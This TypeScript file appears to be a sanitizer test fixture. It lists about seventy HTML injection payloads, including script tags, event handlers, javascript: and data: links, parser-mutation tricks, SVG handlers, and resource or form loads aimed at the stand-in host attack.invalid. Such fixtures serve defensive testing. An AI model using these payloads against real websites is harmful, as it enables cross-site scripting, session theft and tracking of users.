/**
 * HTML that tries to run script, navigate, request or stand in for parts of the page. What it would call is `pwn()`, what it
 * would load is below `http://attack.invalid/`.
 */
const run = "window.pwned=1;alert(1)";
const elsewhere = "http://attack.invalid";
const code = `javascript:${run}`;

export const attacks: { readonly [name: string]: string } = {
  script: `<script>${run}</script>`,
  "script in pieces": `<scr<script>ipt>${run}</scr</script>ipt>`,
  "script without an end": `<script src=${elsewhere}/a.js`,
  "script as a module": `<script type="module" src="${elsewhere}/m.js"></script>`,
  "a picture's error": `<img src=x onerror="${run}">`,
  "a picture's error, oddly written": `<IMG/SRC=x/ONERROR=${run}//`,
  "a picture's error without quotes": `<img src=\`x\` onerror=${run}>`,
  "a handler of every kind": `<p onclick="${run}" onmouseover="${run}" onfocus="${run}" tabindex=0>x</p>`,
  "a handler that begins by itself": `<details open ontoggle="${run}"><summary>x</summary></details>`,
  "a handler of an animation": `<b style="animation:x 1s" onanimationstart="${run}">x</b>`,
  "a handler behind a slash": `<svg/onload=${run}>`,
  "focus by itself": `<input autofocus onfocus="${run}">`,
  "a link that runs": `<a href="${code}">x</a>`,
  "a link that runs, disguised": `<a href="jav&#x09;ascript:${run}">x</a><a href=" &#14; ${code}">y</a>`,
  "a link that runs, by entities": `<a href="&#106;avascript&colon;${run}">x</a>`,
  "a link to a page of data": `<a href="data:text/html,<script>opener.pwned=1</script>" target=_blank>x</a>`,
  "a link to Visual Basic": `<a href="vbscript:msgbox(1)">x</a>`,
  "a link that tells": `<a href="#x" ping="${elsewhere}/ping">x</a>`,
  "a map of links":
    `<map name=m><area href="${code}" shape=default></map><img usemap=#m src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
  "a picture from elsewhere": `<img src="${elsewhere}/i.png"><img srcset="${elsewhere}/s.png 1x">`,
  "a picture of several sources": `<picture><source srcset="${elsewhere}/p.png"><img></picture>`,
  "a picture's old names":
    `<img dynsrc="${elsewhere}/d.png" lowsrc="${elsewhere}/l.png"><image src="${elsewhere}/im.png">`,
  "sound and film":
    `<video src="${elsewhere}/v" poster="${elsewhere}/po.png" autoplay></video><audio src="${elsewhere}/a" autoplay></audio>`,
  "a frame": `<iframe src="${elsewhere}/f"></iframe>`,
  "a frame of script": `<iframe src="${code}"></iframe>`,
  "a frame with its page": `<iframe srcdoc="<script>top.pwned=1</script>"></iframe>`,
  "old frames": `<frameset><frame src="${elsewhere}/fr"></frameset>`,
  "an object": `<object data="${elsewhere}/o"></object><embed src="${elsewhere}/e"><applet code=x></applet>`,
  "an object of data": `<object data="data:text/html,<script>parent.pwned=1</script>"></object>`,
  "a refresh": `<meta http-equiv="refresh" content="0;url=${elsewhere}/meta">`,
  "a looser policy":
    `<meta http-equiv="Content-Security-Policy" content="script-src *"><script>${run}</script>`,
  "another base": `<base href="${elsewhere}/" target=_blank>`,
  "a stylesheet":
    `<link rel=stylesheet href="${elsewhere}/c.css"><link rel=prefetch href="${elsewhere}/pre">`,
  "looking up a name":
    `<link rel=dns-prefetch href="//attack.invalid"><link rel=preconnect href="${elsewhere}">`,
  "an import of style": `<style>@import "${elsewhere}/i.css"; * { background: url(${elsewhere}/bg) }</style>`,
  "a look that loads":
    `<p style="background-image:url(${elsewhere}/u);list-style:url('${elsewhere}/l')">x</p>`,
  "a look that loads, escaped": `<p style="background:u\\72l(${elsewhere}/esc)">x</p>`,
  "a look that covers the page": `<div style="position:fixed;inset:0;z-index:9;background:red">x</div>`,
  "a look that leaves its place": `<div style="margin-top:-900px;transform:scale(9)">x</div>`,
  "a font":
    `<style>@font-face { font-family: f; src: url(${elsewhere}/font) }</style><p style="font-family:f">x</p>`,
  "a form":
    `<form action="${elsewhere}/form"><button>x</button><input type=image src="${elsewhere}/in.png"></form>`,
  "a button of no form":
    `<button formaction="${code}">x</button><input type=submit formaction="${elsewhere}/sub">`,
  "a form that sends itself": `<form id=f action="${elsewhere}/self"></form><img src=x onerror="f.submit()">`,
  "a key to the page": `<p accesskey=x onclick="${run}">x</p>`,
  "names of the page's parts":
    `<a id=about-this-page class=tools href="#x"></a><img name=querySelectorAll><form name=createElement></form>`,
  "writable text": `<p contenteditable onfocus="${run}" autofocus>x</p>`,
  "markup that changes, by math":
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  "markup that changes, by svg":
    `<svg></p><style><a title="</style><img src=x onerror=${run}>"></a></style></svg><svg><style><img title="</style><img src=x onerror=${run}>">`,
  "markup that changes, by noscript":
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  "markup that changes, by a text area":
    `<textarea><p title="</textarea><img src=x onerror=${run}>"></textarea>`,
  "markup that changes, by a title": `<title><p title="</title><img src=x onerror=${run}>"></title>`,
  "markup that changes, by xmp":
    `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp><plaintext><img src=x onerror=${run}>`,
  "markup that changes, by a template":
    `<template><img src=x onerror=${run}></template><template shadowrootmode=open><img src=x onerror=${run}></template>`,
  "markup that changes, by a comment":
    `<!--><img src=x onerror=${run}>--><!--a--!><img src=x onerror=${run}>`,
  "markup that changes, by CDATA": `<![CDATA[><img src=x onerror=${run}>]]><?x ><img src=x onerror=${run}>?>`,
  "markup that changes, by a selection":
    `<select><style><p title="</style></select><img src=x onerror=${run}>"></style></select>`,
  "an attribute that ends early":
    `<p title="&quot;&gt;&lt;img src=x onerror=${run}&gt;" dir='"><img src=x onerror=${run}>'>x</p>`,
  "the end of what holds it": `</div></details></section></main></body></html><script>${run}</script>`,
  "a zero byte": `<scr\0ipt>${run}</scr\0ipt><img src=x on\0error=${run} \0onerror=${run}>`,
  "script in a drawing": `<svg xmlns="http://www.w3.org/2000/svg"><script>${run}</script></svg>`,
  "a refresh in a drawing":
    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><meta http-equiv="refresh" content="0;url=${elsewhere}/svg-meta"/><iframe src="${elsewhere}/svg-frame"/><img src="x" onerror="${run}"/></body></foreignObject></svg>`,
  "a drawing's links":
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="${code}"><text y="9">x</text></a><use href="${elsewhere}/u.svg#x"/><image href="${elsewhere}/svg.png"/></svg>`,
  "a drawing's looks":
    `<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(${elsewhere}/svg.css); * { fill: url(${elsewhere}/f.svg#x) }</style><rect width="9" height="9"/></svg>`,
  "a drawing's handlers":
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><animate onbegin="${run}" attributeName="x" dur="1s"/><set attributeName="onmouseover" to="${run}"/></svg>`,
  "a drawing's entities":
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "${elsewhere}/dtd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
  "a drawing that names itself":
    `<svg xmlns="http://www.w3.org/2000/svg"><title>" onerror="${run}</title></svg>`,
  "a drawing in a drawing's address":
    `<img src='data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>'>`,
  "a picture that is a page": `<img src="data:text/html,<script>${run}</script>">`,
};
